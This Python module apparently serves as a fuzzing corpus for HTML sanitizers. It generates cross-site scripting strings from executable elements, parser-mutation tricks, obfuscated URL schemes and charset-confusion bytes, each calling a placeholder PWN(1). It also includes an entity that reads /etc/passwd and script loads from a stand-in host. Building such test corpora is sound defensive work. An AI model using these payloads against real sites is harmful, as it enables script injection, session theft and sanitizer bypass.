"""Strings that try to run something: made from what can run, where it can stand, and how it can be spelled.

Each calls PWN. Nothing is copied from a list; the ways are those of the HTML standard and of how parsers differ.
"""

from __future__ import annotations

from collections.abc import Iterator

CALL = "PWN(1)"

EVENTS = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart"),
    *("onpointerrawupdate", "onwheel", "onbeforeinput", "oncopy", "ondrag", "onscrollend", "ononline"),
)

ELEMENTS = {
    "script": f"<script>{CALL}</script>",
    "script-src": "<script src=https://e.test/x.js></script>",
    "script-type": f"<script type=module async>{CALL}</script>",
    "script-open": f"<script>{CALL}",
    "script-slash": f"<script/x>{CALL}</script/x>",
    "img": f"<img src=x onerror={CALL}>",
    "img-slash": f"<img/src=x/onerror={CALL}>",
    "img-quotes": f"<img src=\"x\" alt='\"' onerror='{CALL}'>",
    "img-newline": f"<img\nsrc=x\nonerror\n=\n{CALL}\n>",
    "img-form-feed": f"<img\x0csrc=x\x0conerror={CALL}>",
    "img-twice": f"<img src=https://e.test/x.png src=x onerror={CALL}>",
    "image": f"<image src=x onerror={CALL}>",
    "picture": f"<picture><source srcset=x onerror={CALL}><img src=x onerror={CALL}></picture>",
    "svg": f"<svg onload={CALL}>",
    "svg-script": f"<svg><script>{CALL}</script></svg>",
    "svg-script-href": "<svg><script href=data:,PWN(1) /></svg>",
    "svg-animate": f"<svg><a><animate attributeName=href values=javascript:{CALL} /><text>x</text></a></svg>",
    "svg-set": f"<svg><set attributeName=onmouseover to={CALL} /></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=a onload=PWN(1)></svg>#a'/></svg>",
    "svg-foreign": f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>",
    "svg-image": f"<svg><image xlink:href=x onerror={CALL} /></svg>",
    "math": f"<math><mi xlink:href=javascript:{CALL}>x</mi></math>",
    "math-action": f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>",
    "math-annotation": f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml></math>",
    "iframe": f"<iframe src=javascript:{CALL}></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='&lt;script&gt;PWN(1)&lt;/script&gt;'></iframe>",
    "iframe-onload": f"<iframe onload={CALL}></iframe>",
    "frameset": f"<frameset onload={CALL}><frame src=javascript:{CALL}></frameset>",
    "object": f"<object data=javascript:{CALL}></object>",
    "object-html": "<object data='data:text/html,<script>PWN(1)</script>' type=text/html></object>",
    "embed": f"<embed src=javascript:{CALL}>",
    "applet": "<applet code=PWN archive=https://e.test/x.jar></applet>",
    "video": f"<video src=x onerror={CALL}></video>",
    "video-source": f"<video><source onerror={CALL}></video>",
    "video-poster": f"<video poster=javascript:{CALL}></video>",
    "audio": f"<audio src=x onerror={CALL} autoplay></audio>",
    "track": f"<video><track src=x onerror={CALL}></video>",
    "details": f"<details open ontoggle={CALL}>x</details>",
    "marquee": f"<marquee onstart={CALL}>x</marquee>",
    "body": f"<body onload={CALL}>",
    "body-background": f"<body background=javascript:{CALL}>",
    "html": f"<html onclick={CALL}>",
    "input": f"<input autofocus onfocus={CALL}>",
    "input-image": f"<input type=image src=x onerror={CALL}>",
    "select": f"<select autofocus onfocus={CALL}><option>x</select>",
    "textarea": f"<textarea autofocus onfocus={CALL}>x</textarea>",
    "button": f"<form><button formaction=javascript:{CALL}>x</button></form>",
    "form": f"<form action=javascript:{CALL}><input type=submit></form>",
    "isindex": f"<isindex action=javascript:{CALL} type=image>",
    "keygen": f"<keygen autofocus onfocus={CALL}>",
    "link": "<link rel=stylesheet href=https://e.test/x.css>",
    "link-import": "<link rel=import href='data:text/html,<script>PWN(1)</script>'>",
    "link-javascript": f"<link rel=stylesheet href=javascript:{CALL}>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "meta-cookie": "<meta http-equiv=set-cookie content='a=PWN(1)'>",
    "base": f"<base href=javascript:{CALL}//><a href=x>x</a>",
    "style": f"<style>*{{background:url(javascript:{CALL})}}</style>",
    "style-import": "<style>@import 'https://e.test/x.css';</style>",
    "style-attribute": f"<p style='background:url(javascript:{CALL})'>x</p>",
    "style-expression": f"<p style='width:expression({CALL})'>x</p>",
    "style-binding": "<p style='-moz-binding:url(https://e.test/x.xml#PWN)'>x</p>",
    "style-animation": f"<p style='animation:x 1s' onanimationend={CALL}>x</p>",
    "template": f"<template><script>{CALL}</script></template>",
    "template-shadow": f"<div><template shadowrootmode=open><script>{CALL}</script></template></div>",
    "portal": f"<portal src=javascript:{CALL}></portal>",
    "dialog": f"<dialog open onclose={CALL}><form method=dialog><button>x</button></form></dialog>",
    "popover": f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={CALL}>x</p>",
    "slot": f"<slot onslotchange={CALL}></slot>",
    "bgsound": f"<bgsound src=javascript:{CALL}>",
    "layer": "<layer src=https://e.test/x.js></layer>",
    "xml": f"<xml id=x><a><b>&lt;script&gt;{CALL}&lt;/script&gt;</b></a></xml>",
    "xss-tag": f"<x-y tabindex=1 onfocus={CALL} autofocus>x</x-y>",
    "area": f"<map name=m><area href=javascript:{CALL}></map><img usemap=#m src=x>",
    "table-background": f"<table background=javascript:{CALL}><tr><td background=javascript:{CALL}>x</td></tr></table>",
    "import-map": '<script type=importmap>{"imports":{"x":"data:text/javascript,PWN(1)"}}</script>',
    "speculation": '<script type=speculationrules>{"prerender":[{"urls":["https://e.test/"]}]}</script>',
    "conditional": f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
    "xml-stylesheet": f"<?xml-stylesheet href='javascript:{CALL}'?>",
    "doctype": f"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><p>&y;</p><img src=x onerror={CALL}>",
    "server-include": "<!--#exec cmd='PWN(1)'-->",
    "php": "<?php PWN(1) ?>",
}
"""What can run something."""

MUTATIONS = {
    "noscript-title": f'<noscript><p title="</noscript><img src=x onerror={CALL}>">x</p></noscript>',
    "textarea-title": f'<textarea><p title="</textarea><img src=x onerror={CALL}>">x</p>',
    "title-title": f'<title><p title="</title><img src=x onerror={CALL}>">x</p></title>',
    "style-title": f'<style><p title="</style><img src=x onerror={CALL}>"></style>',
    "xmp-title": f'<xmp><p title="</xmp><img src=x onerror={CALL}>">x</p></xmp>',
    "iframe-title": f'<iframe><p title="</iframe><img src=x onerror={CALL}>">x</p></iframe>',
    "noembed-title": f'<noembed><p title="</noembed><img src=x onerror={CALL}>">x</p></noembed>',
    "noframes-title": f'<noframes><p title="</noframes><img src=x onerror={CALL}>">x</p></noframes>',
    "plaintext": f"<p>x<plaintext><img src=x onerror={CALL}>",
    "comment-dash": f"<!--><img src=x onerror={CALL}>-->",
    "comment-bang": f"<!--x--!><img src=x onerror={CALL}>-->",
    "comment-dashes": f"<!-- -- --><img src=x onerror={CALL}><!-- -->",
    "comment-open": f"<!-- <img src=x onerror={CALL}>",
    "comment-in-attribute": f'<p title="--><img src=x onerror={CALL}>">x</p>',
    "bogus-comment": f"<!x ><img src=x onerror={CALL}>",
    "bogus-end": f"</ x ><img src=x onerror={CALL}>",
    "cdata": f"<svg><![CDATA[</svg><img src=x onerror={CALL}>]]></svg>",
    "cdata-html": f"<![CDATA[<img src=x onerror={CALL}>]]>",
    "svg-style": f'<svg></p><style><a id="</style><img src=x onerror={CALL}>">',
    "svg-title-style": f"<svg><title><style><img title='</style><img src=x onerror={CALL}>'></title></svg>",
    "svg-desc": f"<svg><desc><style><img src=x onerror={CALL}></style></desc></svg>",
    "math-style": f"<math><mtext><style><img title='</style><img src=x onerror={CALL}>'></style></mtext></math>",
    "math-table": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={CALL}&gt;'>"
    ),
    "math-form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    "math-malignmark": f"<math><mtext><mglyph><svg><mtext><style><path id='</style><img src=x onerror={CALL}>'>",
    "math-p": f"<math></p><style><!--</style><img src/onerror={CALL}>--></style></math>",
    "math-br": f"<math></br><img src=x onerror={CALL}></math>",
    "svg-p": f"<svg><p><style><g title='</style><img src=x onerror={CALL}>'></svg>",
    "svg-font": f"<svg><font color=x><img src=x onerror={CALL}></font></svg>",
    "select-style": f"<select><style></select><img src=x onerror={CALL}></style></select>",
    "select-template": f"<select><template><style></template></select><img src=x onerror={CALL}></style>",
    "table-foster": f"<table><a href='x'><tr><td></a><img src=x onerror={CALL}></td></tr></table>",
    "table-style": f"<table><style><caption></style><img src=x onerror={CALL}></caption></table>",
    "table-select": f"<table><tr><td><select><tr><td><img src=x onerror={CALL}></table>",
    "adoption": f"<a><b><p></a><img src=x onerror={CALL}></b></p>",
    "adoption-deep": "<b>" * 12 + f"<p>x</b><img src=x onerror={CALL}></p>",
    "form-nested": f"<form><div></form><form><img src=x onerror={CALL}></form></div></form>",
    "pre-newline": f"<pre>\n\n<img src=x onerror={CALL}></pre>",
    "listing-newline": f"<listing>\n\n<img src=x onerror={CALL}></listing>",
    "textarea-newline": f"<textarea>\n</textarea><img src=x onerror={CALL}>",
    "attribute-lt": f"<p title='<img src=x onerror={CALL}>'>x</p>",
    "attribute-backtick": f"<p title=`<img src=x onerror={CALL}>`>x</p>",
    "attribute-gt": f"<img alt=a>b src=x onerror={CALL}>",
    "attribute-name": f"<p <img src=x onerror={CALL}>x</p>",
    "attribute-quote-name": f'<p "onclick={CALL}" \'>x</p>',
    "attribute-equals": f"<p =onclick={CALL}>x</p>",
    "entity-tag": f"&lt;img src=x onerror={CALL}&gt;",
    "entity-tag-twice": f"&amp;lt;img src=x onerror={CALL}&amp;gt;",
    "entity-no-semicolon": f"&lt<img src=x onerror={CALL}>&gt",
    "nul-tag": f"<scr\0ipt>{CALL}</scr\0ipt>",
    "nul-attribute": f"<img src=x on\0error={CALL}>",
    "nul-open": f"<\0script>{CALL}</script>",
    "lone-lt": f"<<script>{CALL}//<</script>",
    "tag-in-tag": f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "half-tag": f"<img src=x onerror={CALL}",
    "half-end": f"<p>x</p><img src=x onerror={CALL}//",
    "unicode-lt": f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    "kelvin": f"<s\u017fcript>{CALL}</script>",
    "body-after": f"</body></html><img src=x onerror={CALL}>",
    "frameset-after": f"<p>x</p><frameset><frame src=javascript:{CALL}></frameset>",
    "template-escape": f"<template><div></template><img src=x onerror={CALL}></div></template>",
    "ruby": f"<ruby><rt><rp><img src=x onerror={CALL}></rp></rt></ruby>",
    "image-alt": f"<img src=https://e.test/a.png alt='\"><img src=x onerror={CALL}>'>",
    "caption": f"<table><caption><svg><style></caption><img src=x onerror={CALL}></style></svg></table>",
    "colgroup": f"<table><colgroup><template><col></template><img src=x onerror={CALL}></colgroup></table>",
}
"""What is one thing to one parser and another to the next."""

CONTEXTS = {
    "alone": "{}",
    "paragraph": "<p>before {} after</p>",
    "heading": "<h2>{}</h2>",
    "cell": "<table><tr><td>{}</td></tr></table>",
    "list": "<ul><li>{}</li></ul>",
    "pre": "<pre><code>{}</code></pre>",
    "figure": "<figure><figcaption>{}</figcaption></figure>",
    "unclosed": "<div><b><i><a href=x>{}",
    "alt": '<img src="https://e.test/a.png" alt="{}">',
    "alt-single": "<img src='https://e.test/a.png' alt='{}'>",
    "href": '<a href="https://e.test/{}">x</a>',
    "abbr": "<abbr title='{}'>x</abbr>",
}
"""Where it can stand."""

CARRIERS = {
    "a": "<a href={}>x</a>",
    "img": "<img src={} width=300 height=300>",
    "lazy": "<img data-src={} src=https://e.test/x.png>",
    "srcset": "<img srcset={}>",
    "svg": "<svg><a xlink:href={}><text>x</text></a></svg>",
    "q": "<blockquote cite={}>x</blockquote>",
    "canonical": "<link rel=canonical href={}>",
    "og": "<meta property=og:image content={}>",
}
"""What has an address."""


def spellings(scheme: str) -> Iterator[str]:
    """The ways to write a scheme that a browser, or somebody's filter, may read as that scheme; with quotes around."""
    call = f"{scheme}:{CALL}"
    yield f'"{call}"'
    yield f'"{call.upper()}"'
    yield f'"{"".join(c.upper() if n % 2 else c for n, c in enumerate(call))}"'
    for space in ("\t", "\n", "\r\n", "\0", "\x01", "\x0c", "\u00ad", "\u200b", "\ufeff"):
        yield f'"{call[:4]}{space}{call[4:]}"'
        yield f'"{space}{call}"'
    yield f'"   {call}"'
    yield f'"{scheme} :{CALL}"'
    yield f'"{"".join(f"&#{ord(c)};" for c in scheme)}:{CALL}"'
    yield f'"{"".join(f"&#x{ord(c):x};" for c in call)}"'
    yield f'"{"".join(f"&#{ord(c):07}" for c in call)}"'
    yield f'"{call[:4]}&Tab;{call[4:]}"'
    yield f'"{call[:4]}&NewLine;{call[4:]}"'
    yield f'"{scheme}&colon;{CALL}"'
    yield f'"{"".join(f"%{ord(c):02x}" for c in scheme)}:{CALL}"'
    yield f'"{"".join(f"&amp;#{ord(c)};" for c in scheme)}:{CALL}"'
    yield f'"//e.test/{call}"'
    yield f'"x/../{call}"'
    yield f'"view-source:{call}"'
    yield f'"feed:{call}"'
    yield f'"https:{call}"'
    yield f"`{call}`"


def strings() -> Iterator[tuple[str, str]]:
    """(name, HTML) of each; well over a thousand."""
    for kind, vectors in (("element", ELEMENTS), ("mutation", MUTATIONS)):
        for name, vector in vectors.items():
            for place, context in CONTEXTS.items():
                yield f"{kind}-{name}-{place}", context.format(vector)
    for event in EVENTS:
        for tag in ("p", "img src=https://e.test/x.png", "a href=https://e.test/", "td", "svg", "x-y"):
            yield f"event-{event}-{tag.split()[0]}", f"<{tag} {event}={CALL} {event.upper()}='{CALL}'>x"
    for scheme in ("javascript", "vbscript", "data", "livescript", "mocha"):
        for number, spelling in enumerate(spellings(scheme)):
            for name, carrier in CARRIERS.items():
                if scheme == "javascript" or name in ("a", "img"):
                    yield f"scheme-{scheme}-{number}-{name}", carrier.format(spelling)
    script = f"<script>{CALL}</script><img src=x onerror={CALL}>"
    for media in ("text/html", "image/svg+xml", "application/xhtml+xml", "image/png", "text/javascript", ""):
        for name, carrier in CARRIERS.items():
            yield f"data-{media}-{name}", carrier.format(f'"data:{media},{script}"')


def encoded() -> Iterator[tuple[str, bytes, str | None]]:
    """(name, bytes, declared charset): the same in charsets that hide it from whoever guesses another one."""
    text = f"<p>before</p><script>{CALL}</script><img src=x onerror={CALL}><p>after</p>"
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037", "shift_jis", "iso2022_jp", "gb18030"):
        for declared in (None, codec, "utf-8", "x-nope"):
            yield f"{codec}-{declared}", text.encode(codec), declared
    hidden = "+ADw-script+AD4-PWN(1)+ADw-/script+AD4-"
    yield "utf-7-words", f"<meta charset=utf-7><p>{hidden}</p>".encode(), "utf-7"
    # A lead byte that eats the quote after it: https://en.wikipedia.org/wiki/Shift_JIS#Multi-byte_encoding
    for codec, lead in (("shift_jis", b"\x81"), ("gb18030", b"\x81"), ("big5", b"\x81"), ("euc_jp", b"\x8f")):
        eaten = b'<img alt="' + lead + b'" src="https://e.test/x.png" title=" onerror=PWN(1) x=">'
        yield f"{codec}-lead", eaten, codec
    yield "iso2022-jp-escape", b"<p title='\x1b$B'><img src=x onerror=PWN(1)>\x1b(B</p>", "iso-2022-jp"
    yield "overlong", b"<p>\xc0\xbcscript\xc0\xbePWN(1)\xc0\xbc/script\xc0\xbe</p>", "utf-8"
